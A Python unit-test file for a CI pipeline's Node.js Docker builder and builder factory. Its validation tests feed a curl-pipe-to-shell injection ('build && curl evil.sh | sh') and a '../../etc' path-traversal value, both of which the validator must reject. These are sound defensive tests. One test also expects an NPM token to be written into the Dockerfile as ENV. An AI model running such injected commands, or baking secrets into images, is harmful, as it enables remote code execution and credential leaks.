"""Unit tests for the Node.js builder and builder factory."""

import asyncio
from pathlib import Path
from unittest.mock import AsyncMock, MagicMock

import pytest

from chef_pipeline.builders.base import BuildOptions
from chef_pipeline.builders.factory import NODEJS_FRAMEWORKS, BuilderFactory
from chef_pipeline.builders.nodejs_builder import SERVE_ROOT, NodeJSBuilder
from chef_pipeline.core.docker_client import DockerBuildResult
from chef_pipeline.core.errors import (
    BuildCommandError,
    BuildConfigError,
    UnsupportedFrameworkError,
)
from chef_pipeline.core.security import SecurityError


@pytest.fixture
def options(tmp_path):
    return BuildOptions(
        work_dir=tmp_path / "work" / "b1",
        cache_dir=tmp_path / "cache" / "b1",
        artifact_dir=tmp_path / "artifacts" / "b1",
        environment={"VITE_API_URL": "https://api.example.com", "NPM_TOKEN": "s3cr3t"},
        timeout_seconds=60,
    )


@pytest.fixture
def docker_client():
    docker = MagicMock()
    docker.build = AsyncMock(return_value=DockerBuildResult(
        image_id="sha256:abc", image_tag="chef-shop:b1", build_logs=["Step 1/9"],
    ))
    docker.push = AsyncMock(return_value="sha256:digest")
    docker.export_directory = AsyncMock(side_effect=lambda image, path, archive: archive)
    return docker


@pytest.fixture
def builder(pipeline_config, options, docker_client):
    return NodeJSBuilder(pipeline_config.nodejs, options, docker_client=docker_client)


class TestValidate:
    """Tests for NodeJSBuilder.validate."""

    def test_valid(self, builder, make_build):
        builder.validate(make_build())

    def test_missing_builder_config(self, builder, make_build):
        with pytest.raises(BuildConfigError, match="builder configuration is required"):
            builder.validate(make_build(builder_config={}))

    def test_missing_source_dir(self, builder, make_build):
        with pytest.raises(BuildConfigError, match="source directory is required"):
            builder.validate(make_build(builder_config={"other": "x"}))

    def test_source_dir_does_not_exist(self, builder, make_build, tmp_path):
        with pytest.raises(BuildConfigError, match="does not exist"):
            builder.validate(make_build(builder_config={"sourceDir": str(tmp_path / "nope")}))

    def test_missing_package_json(self, builder, make_build, tmp_path):
        with pytest.raises(BuildConfigError, match="package.json not found"):
            builder.validate(make_build(builder_config={"sourceDir": str(tmp_path)}))

    def test_missing_output_dir(self, builder, make_build):
        with pytest.raises(BuildConfigError, match="output directory is required"):
            builder.validate(make_build(output_dir=""))

    def test_rejects_shell_in_command(self, builder, make_build):
        with pytest.raises(SecurityError):
            builder.validate(make_build(build_command="build && curl evil.sh | sh"))

    def test_rejects_escaping_output_dir(self, builder, make_build):
        with pytest.raises(SecurityError):
            builder.validate(make_build(output_dir="../../etc"))

    def test_rejects_bad_env_name(self, pipeline_config, options, docker_client, make_build):
        options.environment = {"BAD NAME": "x"}
        builder = NodeJSBuilder(pipeline_config.nodejs, options, docker_client=docker_client)

        with pytest.raises(SecurityError):
            builder.validate(make_build())


class TestRenderDockerfile:
    """Tests for the generated build recipe."""

    def test_two_stage_recipe(self, builder, make_build):
        dockerfile = builder.render_dockerfile(make_build())

        assert dockerfile.startswith("FROM node:20-alpine AS builder\n")
        assert "RUN npm install\n" in dockerfile
        assert "RUN npm run build\n" in dockerfile
        assert "FROM nginx:alpine\n" in dockerfile
        assert f"COPY --from=builder /app/build {SERVE_ROOT}\n" in dockerfile
        assert "EXPOSE 80" in dockerfile

    def test_env_overlay_is_quoted(self, builder, make_build):
        dockerfile = builder.render_dockerfile(make_build())

        assert 'ENV VITE_API_URL="https://api.example.com"\n' in dockerfile
        assert dockerfile.index("ENV NPM_TOKEN") < dockerfile.index("ENV VITE_API_URL")

    def test_lockfile_uses_npm_ci(self, builder, make_build, react_project):
        (react_project / "package-lock.json").write_text("{}")

        assert "RUN npm ci\n" in builder.render_dockerfile(make_build())

    def test_custom_build_image(self, pipeline_config, options, docker_client, make_build):
        pipeline_config.nodejs.build_image = "registry.example.com/node:20-bookworm"
        builder = NodeJSBuilder(pipeline_config.nodejs, options, docker_client=docker_client)

        dockerfile = builder.render_dockerfile(make_build())

        assert dockerfile.startswith("FROM registry.example.com/node:20-bookworm AS builder")


class TestBuild:
    """Tests for NodeJSBuilder.build."""

    @pytest.mark.asyncio
    async def test_build_exports_artifact(self, builder, docker_client, make_build, options, react_project):
        (react_project / "node_modules" / "react").mkdir(parents=True)

        result = await builder.build(make_build(commit_hash="abc123"))

        context = Path(options.work_dir) / "context"
        assert (context / "Dockerfile").exists()
        assert (context / ".dockerignore").read_text() == "node_modules\n.git\n"
        assert (context / "package.json").exists()
        assert not (context / "node_modules").exists()

        docker_client.build.assert_awaited_once()
        assert docker_client.build.call_args.args == (context, "chef-shop:abc123")
        docker_client.push.assert_not_awaited()
        docker_client.export_directory.assert_awaited_once_with(
            "chef-shop:abc123", SERVE_ROOT, Path(options.artifact_dir) / "b1.tar.gz",
        )

        assert result.success is True
        assert result.image_id == "chef-shop:abc123"
        assert result.artifact_path == str(Path(options.artifact_dir) / "b1.tar.gz")
        assert result.logs == ["Step 1/9"]

    @pytest.mark.asyncio
    async def test_build_pushes_to_registry(self, pipeline_config, options, docker_client, make_build):
        builder = NodeJSBuilder(
            pipeline_config.nodejs, options, docker_client=docker_client, registry="registry.example.com/team"
        )

        result = await builder.build(make_build())

        docker_client.push.assert_awaited_once_with("registry.example.com/team/chef-shop:b1")
        assert result.image_digest == "sha256:digest"

    @pytest.mark.asyncio
    async def test_build_cache_disabled(self, pipeline_config, options, docker_client, make_build):
        pipeline_config.nodejs.build_cache = False
        builder = NodeJSBuilder(pipeline_config.nodejs, options, docker_client=docker_client)

        await builder.build(make_build())

        assert docker_client.build.call_args.kwargs["no_cache"] is True

    @pytest.mark.asyncio
    async def test_build_command_failure_propagates(self, builder, docker_client, make_build):
        docker_client.build.side_effect = BuildCommandError("npm ERR! missing script: build")

        with pytest.raises(BuildCommandError, match="missing script"):
            await builder.build(make_build())
        docker_client.export_directory.assert_not_awaited()

    @pytest.mark.asyncio
    async def test_build_timeout(self, builder, docker_client, options, make_build):
        async def slow_build(*args, **kwargs):
            await asyncio.sleep(10)

        docker_client.build.side_effect = slow_build
        options.timeout_seconds = 0.05

        with pytest.raises(BuildCommandError, match="build exceeded"):
            await builder.build(make_build())


class TestCleanup:

    @pytest.mark.asyncio
    async def test_cleanup_removes_work_dir(self, builder, docker_client, make_build, options):
        await builder.build(make_build())
        assert Path(options.work_dir).exists()

        builder.cleanup()

        assert not Path(options.work_dir).exists()
        docker_client.close.assert_called_once()

    def test_cleanup_without_build(self, builder, docker_client):
        builder.cleanup()
        docker_client.close.assert_called_once()


class TestBuilderFactory:
    """Tests for BuilderFactory."""

    @pytest.mark.parametrize("framework", NODEJS_FRAMEWORKS)
    def test_nodejs_frameworks(self, pipeline_config, options, framework):
        builder = BuilderFactory(pipeline_config).create_builder(framework, options)

        assert isinstance(builder, NodeJSBuilder)
        assert builder.options is options

    def test_fresh_builder_per_call(self, pipeline_config, options):
        factory = BuilderFactory(pipeline_config)

        assert factory.create_builder("vue", options) is not factory.create_builder("vue", options)

    @pytest.mark.parametrize("framework", ["React", "next", ""])
    def test_unsupported_framework(self, pipeline_config, options, framework):
        with pytest.raises(UnsupportedFrameworkError) as exc_info:
            BuilderFactory(pipeline_config).create_builder(framework, options)

        assert str(exc_info.value) == f"unsupported framework: {framework}"

    def test_register(self, pipeline_config, options):
        factory = BuilderFactory(pipeline_config)
        sentinel = MagicMock()
        factory.register("solid", lambda config, opts: sentinel)

        assert factory.create_builder("solid", options) is sentinel
        assert "solid" in factory.frameworks

    def test_builders_push_to_deploy_registry(self, pipeline_config, options):
        pipeline_config.deploy.registry = "registry.example.com/team"

        builder = BuilderFactory(pipeline_config).create_builder("react", options)

        assert builder.registry == "registry.example.com/team"
